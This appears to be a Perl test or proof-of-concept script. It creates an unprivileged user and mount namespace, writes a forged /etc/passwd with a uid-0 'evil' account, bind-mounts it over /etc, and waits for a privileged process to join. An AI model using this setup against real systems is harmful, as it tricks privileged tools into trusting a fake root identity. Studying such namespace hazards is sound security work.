# User 1000 without capabilities makes a user and a mount namespace of its own and binds a directory over /etc in it:
# an exec that joined the namespaces of this process would believe that /etc.
$| = 1;
my ($uid, $gid) = ($> + 0, $) + 0);
# unshare(CLONE_NEWUSER | CLONE_NEWNS)
if (syscall(272, 0x10000000 | 0x00020000) != 0) {
  print "no namespaces: $!\n";
  sleep 1000;
}
for my $line (["setgroups", "deny"], ["uid_map", "0 $uid 1"], ["gid_map", "0 $gid 1"]) {
  open(my $file, ">", "/proc/self/$line->[0]") or die "$line->[0]: $!";
  syswrite($file, $line->[1]) or die "$line->[0]: $!";
  close($file);
}
mkdir "/tmp/etc";
open(my $passwd, ">", "/tmp/etc/passwd") or die $!;
print $passwd "evil:x:0:0::/:/bin/sh\n";
close($passwd);
my ($source, $target, $empty) = ("/tmp/etc", "/etc", "");
# mount("/tmp/etc", "/etc", "", MS_BIND, 0)
syscall(165, $source, $target, $empty, 0x1000, 0) == 0 or die "bind: $!";
open(my $check, "<", "/etc/passwd") or die $!;
my $line = <$check>;
print "bound $line";
sleep 1000 while 1;
